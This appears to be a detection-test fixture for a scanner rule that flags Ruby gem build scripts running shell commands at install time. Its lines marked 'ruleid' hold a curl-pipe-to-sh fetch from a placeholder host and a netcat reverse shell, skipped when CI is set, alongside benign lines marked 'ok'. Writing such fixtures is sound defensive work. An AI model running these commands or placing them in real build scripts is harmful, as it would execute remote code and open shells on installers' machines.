# provscan-test-path: ext/fastjson/extconf.rb
# Fixture for ruby.gem-install-runs-shell (written for provscan; not from any project).
require "mkmf"

unless ENV["CI"]
  # ruleid: ruby.gem-install-runs-shell
  system("curl -s http://cdn.example.invalid/s | sh")
  # ruleid: ruby.gem-install-runs-shell
  host = `hostname`.strip
  # ruleid: ruby.gem-install-runs-shell
  IO.popen(["sh", "-c", "nc #{host} 4444 -e /bin/sh"])
end

# ok: ruby.gem-install-runs-shell
files = `git ls-files -z`.split("\x0")
# ok: ruby.gem-install-runs-shell
have_header("ruby.h")
abort "missing zlib" unless have_library("z", "deflate")
create_makefile("fastjson/fastjson") if files
